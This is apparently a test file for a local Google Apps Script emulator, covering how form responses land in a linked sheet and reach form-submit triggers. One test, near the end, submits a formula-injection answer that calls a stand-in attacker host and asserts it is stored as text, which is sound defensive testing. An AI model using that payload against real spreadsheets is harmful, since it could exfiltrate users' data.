// A person submitting a linked form: the row appended to the responses sheet, and installable ON_FORM_SUBMIT
// triggers run with values as displayed and namedValues as arrays; a trigger that failed; hand-made events.

import { createLocalRuntime, loadBundle, type LocalRuntime } from "../../../src/local/runtime";

const MORNING = new Date("2024-09-02T07:05:09Z"); // 10:05:09 in Moscow

const HANDLERS = `
var got = [];
function onSubmit(e) {
  got.push({ values: e.values, namedValues: e.namedValues, a1: e.range.getA1Notation(), sheet: e.range.getSheet().getName(),
    uid: e.triggerUid, authMode: e.authMode, source: e.source.getId() });
}
function seen() { return JSON.stringify(got); }
`;

function linked(locale = "ru_RU") {
  const rt = createLocalRuntime({ now: MORNING, locale });
  const form = rt.globals.FormApp.create("Заявка");
  form.addTextItem().setTitle("Имя");
  form.addListItem().setTitle("Кабинет").setChoiceValues(["101", "204"]);
  form.addParagraphTextItem().setTitle("Подробности");
  form.setDestination(rt.globals.FormApp.DestinationType.SPREADSHEET, rt.spreadsheet.id);
  loadBundle(rt, HANDLERS);
  const trigger = rt.globals.ScriptApp.newTrigger("onSubmit").forSpreadsheet(rt.spreadsheet.id).onFormSubmit().create();
  return { rt, form, trigger };
}

// biome-ignore lint/suspicious/noExplicitAny: events come back through JSON
function seen(rt: LocalRuntime): any[] {
  return JSON.parse(rt.bundle!.call("seen") as string);
}

test("respondToForm appends the row: timestamp as a Date, answers in item order, '' when unanswered", () => {
  const { rt, form } = linked();
  const { row } = rt.respondToForm(form.getId(), { Кабинет: "204", Имя: "Петров" });
  expect(row).toBe(2);
  const sheet = rt.spreadsheet.sheet("Ответы на форму (1)")!;
  const [values] = sheet.getRange(2, 1, 1, 4).getValues();
  expect(values![0]).toBeInstanceOf(Date);
  expect((values![0] as Date).getTime()).toBe(MORNING.getTime());
  expect(values!.slice(1)).toEqual(["Петров", 204, ""]);
  expect(sheet.getRange(2, 1, 1, 4).getDisplayValues()).toEqual([["02.09.2024 10:05:09", "Петров", "204", ""]]);
});

test("respondToForm fires the ON_FORM_SUBMIT trigger with values as displayed and namedValues as arrays", () => {
  const { rt, form, trigger } = linked();
  rt.respondToForm(form.getId(), { Имя: "Петров", Кабинет: "204" });
  expect(seen(rt)).toEqual([
    {
      values: ["02.09.2024 10:05:09", "Петров", "204", ""],
      namedValues: { "Отметка времени": ["02.09.2024 10:05:09"], Имя: ["Петров"], Кабинет: ["204"], Подробности: [""] },
      a1: "A2:D2",
      sheet: "Ответы на форму (1)",
      uid: trigger.getUniqueId(),
      authMode: "FULL",
      source: rt.spreadsheet.id,
    },
  ]);
});

test("in an English spreadsheet the timestamp reads M/d/yyyy H:mm:ss", () => {
  const { rt, form } = linked("en_US");
  rt.respondToForm(form.getId(), { Имя: "Smith" }, { at: new Date("2024-12-24T21:00:00Z") });
  const [event] = seen(rt);
  expect(event.values[0]).toBe("12/25/2024 0:00:00");
  expect(event.namedValues.Timestamp).toEqual(["12/25/2024 0:00:00"]);
  expect(rt.globals.FormApp.openById(form.getId()).getResponses()[0]!.getTimestamp().toISOString()).toBe("2024-12-24T21:00:00.000Z");
});

test("with fireTriggers false the response is recorded and the row appended, but no trigger runs", () => {
  const { rt, form } = linked();
  const outcome = rt.respondToForm(form.getId(), { Имя: "Петров" }, { fireTriggers: false });
  expect(outcome.event).toBeNull();
  expect(outcome.row).toBe(2);
  expect(form.getResponses()).toHaveLength(1);
  expect(rt.spreadsheet.sheet("Ответы на форму (1)")!.data.lastRow()).toBe(2);
  expect(seen(rt)).toEqual([]);
});

test("every ON_FORM_SUBMIT trigger runs, each with its own triggerUid (the installer ran twice)", () => {
  const { rt, form, trigger } = linked();
  const second = rt.globals.ScriptApp.newTrigger("onSubmit").forSpreadsheet(rt.spreadsheet.id).onFormSubmit().create();
  rt.respondToForm(form.getId(), { Имя: "Петров" });
  expect(seen(rt).map((e) => e.uid)).toEqual([trigger.getUniqueId(), second.getUniqueId()]);
});

test("fireFormSubmit delivers a hand-made blank event to the triggers", () => {
  const { rt, form, trigger } = linked();
  const { event } = rt.respondToForm(form.getId(), { Имя: "Петров" });
  rt.fireFormSubmit({ values: ["", "", "", ""], namedValues: { Имя: [""] }, range: event!.range });
  const events = seen(rt);
  expect(events).toHaveLength(2);
  expect(events[1]).toMatchObject({ values: ["", "", "", ""], namedValues: { Имя: [""] }, a1: "A2:D2", uid: trigger.getUniqueId() });
});

test("a question added after linking gets a new column; a deleted one keeps its column, left blank", () => {
  const { rt, form } = linked();
  const items = form.getItems();
  rt.forms.get(form.getId()).removeItem(items[1]!.getId());
  form.addTextItem().setTitle("Телефон");
  rt.respondToForm(form.getId(), { Имя: "Петров", Телефон: "+7 900" });
  const sheet = rt.spreadsheet.sheet("Ответы на форму (1)")!;
  expect(sheet.getRange("A1:E1").getValues()).toEqual([["Отметка времени", "Имя", "Кабинет", "Подробности", "Телефон"]]);
  expect(seen(rt)[0].namedValues).toMatchObject({ Кабинет: [""], Телефон: ["+7 900"] });
});

test("responses given before the form was linked are copied into the new sheet", () => {
  const rt = createLocalRuntime({ now: MORNING });
  const form = rt.globals.FormApp.create("F");
  form.addTextItem().setTitle("Имя");
  rt.respondToForm(form.getId(), { Имя: "Ранний" });
  expect(rt.respondToForm(form.getId(), { Имя: "Второй" }).row).toBeNull();
  form.setDestination(rt.globals.FormApp.DestinationType.SPREADSHEET, rt.spreadsheet.id);
  expect(rt.spreadsheet.sheet("Ответы на форму (1)")!.getRange("B2:B3").getValues()).toEqual([["Ранний"], ["Второй"]]);
});

test("a response with no triggers registered needs no bundle", () => {
  const rt = createLocalRuntime({ now: MORNING });
  const form = rt.globals.FormApp.create("F");
  form.addTextItem().setTitle("Имя");
  form.setDestination(rt.globals.FormApp.DestinationType.SPREADSHEET, rt.spreadsheet.id);
  expect(rt.respondToForm(form.getId(), { Имя: "Петров" }).row).toBe(2);
  expect(rt.fireFormSubmit({ values: [] })).toEqual([]);
});

test("an answer that looks like a formula is stored as text, never evaluated", () => {
  const { rt, form } = linked();
  rt.respondToForm(form.getId(), { Имя: '=IMPORTXML("https://evil.example","//a")', Подробности: "'quoted" });
  const sheet = rt.spreadsheet.sheet("Ответы на форму (1)")!;
  expect(sheet.getRange("B2").getFormulas()).toEqual([[""]]);
  expect(sheet.getRange("B2:D2").getValues()).toEqual([['=IMPORTXML("https://evil.example","//a")', "", "'quoted"]]);
  expect(seen(rt)[0].values[1]).toBe('=IMPORTXML("https://evil.example","//a")');
});

test("SheetData.setRow stores a row exactly as given, for callers that write a response row themselves", () => {
  const rt = createLocalRuntime({ now: MORNING });
  const data = rt.spreadsheet.sheet("Лист1")!.data;
  data.setRow(2, [MORNING, "007", "=1+1", 5]);
  const values = rt.spreadsheet.sheet("Лист1")!.getRange("A2:D2").getValues()[0]!;
  expect([(values[0] as Date).getTime(), ...values.slice(1)]).toEqual([MORNING.getTime(), "007", "=1+1", 5]);
});
